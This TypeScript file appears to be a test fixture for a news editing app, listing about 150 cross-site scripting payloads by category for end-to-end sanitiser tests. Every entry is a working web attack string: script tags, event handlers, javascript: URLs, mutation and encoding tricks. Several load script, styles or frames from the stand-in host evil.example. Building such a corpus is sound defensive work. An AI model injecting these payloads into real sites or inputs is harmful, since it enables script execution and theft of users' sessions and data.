/**
 * Hostile input for issue 6: markup, script URLs and parser tricks that an agency feed, a pasted
 * article or a colleague's note could carry. Written for Edition (not copied from a published
 * list): each payload either calls a dialog (alert/confirm/prompt, which the e2e fixtures turn
 * into a failure), sets the page sentinel `__xss`, or reaches for `evil.example` (a foreign host
 * the e2e fixtures refuse). Ids are stable so a finding names its payload.
 */
export type XssCategory =
  | 'script'
  | 'event-handler'
  | 'url-scheme'
  | 'svg-mathml'
  | 'css'
  | 'mxss'
  | 'encoded'
  | 'obfuscated'
  | 'frame-meta'
  | 'context-break';

export interface XssPayload {
  id: string;
  category: XssCategory;
  payload: string;
}

const RAW: Record<XssCategory, string[]> = {
  script: [
    '<script>alert(101)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<script/data-x>alert(103)</script>',
    '<scr<script>ipt>alert(104)</scr</script>ipt>',
    '<script>/*</script><svg onload=alert(105)>*/</script>',
    '<script type="module">import "//evil.example/m.js"</script>',
    '<script src="data:text/javascript,alert(107)"></script>',
    '<script>top.__xss=108</script>',
    '<script\n>confirm(109)</script\n>',
    '<script defer src="https://evil.example/defer.js"></script>',
    '<script type="text/plain">alert(111)</script><script>prompt(111)</script>',
    '<svg><script href="//evil.example/s.js"/></svg>',
  ],
  'event-handler': [
    '<img src=x onerror=alert(201)>',
    '<img/src/onerror=alert(202)>',
    '<svg onload=alert(203)>',
    '<body onload=alert(204)>',
    '<input autofocus onfocus=alert(205)>',
    '<details open ontoggle=alert(206)>',
    '<video><source onerror=alert(207)></video>',
    '<audio src=x onerror=alert(208)>',
    '<marquee onstart=alert(209)>news</marquee>',
    '<select autofocus onfocus=alert(210)></select>',
    '<textarea autofocus onfocus=alert(211)></textarea>',
    '<iframe onload=alert(212)></iframe>',
    '<div onmouseover="alert(213)" style="position:fixed;inset:0">hover</div>',
    '<a onclick=alert(214) href=#>click</a>',
    '<style onload=alert(215)></style>',
    '<x onclick=alert(216)>custom</x>',
    '<img src=x:x onerror=alert(217)//',
    '<body onpageshow=alert(218)>',
    '<svg><animate onbegin=alert(219) attributeName=x dur=1s>',
    '<div style="animation-name:spin" onanimationstart=alert(220)>spin</div>',
    '<input type=image src=x onerror=alert(221)>',
    '<image src=x onerror=alert(222)>',
    '<object data=x onerror=alert(223)></object>',
    '<p onpointerenter=alert(224)>pointer</p>',
    '<img src=x onerror="top.__xss=225">',
    '<frameset onload=alert(226)>',
    '<form onsubmit=alert(227)><button>go</button></form>',
    '<svg><set onbegin=alert(228) attributeName=x to=1>',
  ],
  'url-scheme': [
    '<a href="javascript:alert(301)">link</a>',
    '<a href=" JaVaScRiPt:alert(302)">link</a>',
    '<a href="java\tscript:alert(303)">tab</a>',
    '<a href="&#106;avascript:alert(304)">entity</a>',
    '<a href="javascript&colon;alert(305)">colon</a>',
    '<a href="\u0001javascript:alert(306)">control</a>',
    '<a href="vbscript:msgbox(307)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgzMDgpPC9zY3JpcHQ+">data</a>',
    '<form action="javascript:alert(309)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(310)">send</button></form>',
    '<img src="javascript:alert(311)">',
    '<a href="//evil.example/312">protocol-relative</a>',
    '<a href="javascript://%0aalert(313)">comment</a>',
    '<embed src="javascript:alert(314)">',
    '<object data="javascript:alert(315)"></object>',
    '<isindex action=javascript:alert(316) type=submit>',
    '[markdown link](javascript:alert(317))',
    '<javascript:alert(318)>',
    '![markdown image](javascript:alert(319))',
    '[ref link][r320]\n\n[r320]: javascript:alert(320)',
    'javascript:alert(321)',
    '<a href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMzIyKT4=">svg data</a>',
    '<img src="https://evil.example/pixel-323.gif">',
    '<a href="jav&#x0A;ascript:alert(324)">newline entity</a>',
  ],
  'svg-mathml': [
    '<svg><script>alert(401)</script></svg>',
    '<svg><a xlink:href="javascript:alert(402)"><text x=1 y=9>svg link</text></a></svg>',
    '<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.alert(403)&lt;/script&gt;"></iframe></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,&lt;svg id=x onload=alert(404)&gt;#x"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(405)>',
    '<svg><style><img src=x onerror=alert(406)></style></svg>',
    '<math href="javascript:alert(407)">math link</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(408)">m</maction></math>',
    '<svg><image href="https://evil.example/409.png"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><g onload="alert(410)"/></svg>',
    '<svg><desc><img src=x onerror=alert(411)></desc></svg>',
    '<svg><animate xlink:href=#t attributeName=href values="javascript:alert(412)"/><a id=t><text>t</text></a></svg>',
  ],
  css: [
    '<div style="width:expression(alert(501))">expr</div>',
    '<div style="background:url(javascript:alert(502))">url</div>',
    '<style>@import "javascript:alert(503)";</style>',
    '<style>@import url(//evil.example/504.css)</style>',
    '<div style="behavior:url(https://evil.example/505.htc)">htc</div>',
    '<div style="-moz-binding:url(//evil.example/506.xml#x)">xbl</div>',
    '<style>body{background:url("javascript:alert(507)")}</style>',
    '<link rel=stylesheet href=//evil.example/508.css>',
    '<p style="x:\\65xpression(alert(509))">escaped</p>',
    '<p style="background-image:url(&#106;avascript:alert(510))">entity</p>',
    '</style><img src=x onerror=alert(511)>',
    '<style>*{background:url(https://evil.example/512.gif)}</style>',
  ],
  mxss: [
    '<noscript><p title="</noscript><img src=x onerror=alert(601)>">',
    '<template><img src=x onerror=alert(602)></template>',
    '<!--<img src="--><img src=x onerror=alert(603)//">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(604)>">',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(605) src=1>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(606)>',
    '<a title="&lt;/a&gt;&lt;img src=x onerror=alert(607)&gt;">title</a>',
    '<listing>&lt;img src=x onerror=alert(608)&gt;</listing>',
    '<xmp><p title="</xmp><img src=x onerror=alert(609)>">',
    '<noembed><img title="</noembed><img src onerror=alert(610)>"></noembed>',
    '<![CDATA[><img src=x onerror=alert(611)>]]>',
    '<? x="><script>alert(612)</script>">',
    '<iframe><textarea></iframe><img src=x onerror=alert(613)>',
    '<select><template><style><img src=x onerror=alert(614)>',
    '<table><a href=javascript:alert(615)>in table</table>',
    '<!--><img src=x onerror=alert(616)>-->',
    '<title><img src=x onerror=alert(617)></title>',
    '<textarea></textarea><script>alert(618)</script>',
  ],
  encoded: [
    '&lt;script&gt;alert(701)&lt;/script&gt;',
    '&amp;lt;script&amp;gt;alert(702)&amp;lt;/script&amp;gt;',
    '&#60;img src=x onerror=alert(703)&#62;',
    '&#x3C;svg onload=alert(704)&#x3E;',
    '%3Cscript%3Ealert(705)%3C%2Fscript%3E',
    '\\u003cscript\\u003ealert(706)\\u003c/script\\u003e',
    '&#0000060;script&#0000062;alert(707)&#0000060;/script&#0000062;',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(708)">hex</a>',
    '<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;(709)>',
    '+ADw-script+AD4-alert(710)+ADw-/script+AD4-',
    '&lt;a href=&quot;javascript:alert(711)&quot;&gt;x&lt;/a&gt;',
    '&amp;#60;script&amp;#62;alert(712)&amp;#60;/script&amp;#62;',
    '<img src=x onerror="\\u0061lert(713)">',
    '&lt;iframe src=//evil.example/714&gt;',
  ],
  obfuscated: [
    '<scr\u0000ipt>alert(801)</scr\u0000ipt>',
    '<img src=x\u0000onerror=alert(802)>',
    '＜script＞alert(803)＜/script＞',
    '<scr\u200bipt>alert(804)</scr\u200bipt>',
    '<a href="java\u0000script:alert(805)">null</a>',
    '<ſcript>alert(806)</ſcript>',
    '\u202e<img src=x onerror=alert(807)>',
    '<IMG SRC=x OnErRoR=alert(808)>',
    '<img src=x onerror\u000c=alert(809)>',
    '<svg/onload=alert`810`>',
    '<img src=x onerror=window["al"+"ert"](811)>',
    '<a href="javas\u00adcript:alert(812)">soft hyphen</a>',
    '<img src="x" onerror="eval(atob(\'YWxlcnQoODEzKQ==\'))">',
    '<scrİpt>alert(814)</scrİpt>',
  ],
  'frame-meta': [
    '<meta http-equiv="refresh" content="0;url=javascript:alert(901)">',
    '<meta http-equiv=refresh content="0; url=https://evil.example/902">',
    '<base href="https://evil.example/903/">',
    '<base href="javascript:alert(904)//">',
    '<iframe srcdoc="&lt;script&gt;parent.alert(905)&lt;/script&gt;"></iframe>',
    '<iframe src="https://evil.example/906"></iframe>',
    '<object data="//evil.example/907.swf"></object>',
    '<embed src="https://evil.example/908.swf">',
    '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">',
    '<meta charset="utf-7">',
    '<applet code="evil.class" codebase="//evil.example/911"></applet>',
    '<portal src="https://evil.example/912"></portal>',
    '<link rel=import href="//evil.example/913.html">',
    '<iframe src="data:text/html,&lt;script&gt;alert(914)&lt;/script&gt;"></iframe>',
  ],
  'context-break': [
    '"><script>alert(1001)</script>',
    "'><img src=x onerror=alert(1002)>",
    '</title><script>alert(1003)</script>',
    '</textarea><script>alert(1004)</script>',
    '</script><script>alert(1005)</script>',
    '" onmouseover="alert(1006)" x="',
    "' autofocus onfocus='alert(1007)",
    '${alert(1008)}',
    "{{constructor.constructor('alert(1009)')()}}",
    ']]><script>alert(1010)</script><![CDATA[',
    '</p></div></body></html><script>alert(1011)</script>',
    '";alert(1012);//',
    "'-alert(1013)-'",
    '</noscript><img src=x onerror=alert(1014)>',
    '-->  <script>alert(1015)</script> <!--',
    '</style></template></noscript><svg onload=alert(1016)>',
    // A picture the exports show, with a caption that closes the alt attribute around it.
    '<img src="https://images.example/photo-1017.jpg">" onerror="alert(1017)" x="',
  ],
};

function toPayloads(): XssPayload[] {
  return (Object.keys(RAW) as XssCategory[]).flatMap((category) =>
    RAW[category].map((payload, index) => ({
      id: `${category}-${String(index + 1).padStart(2, '0')}`,
      category,
      payload,
    })),
  );
}

export const XSS_CORPUS: readonly XssPayload[] = toPayloads();
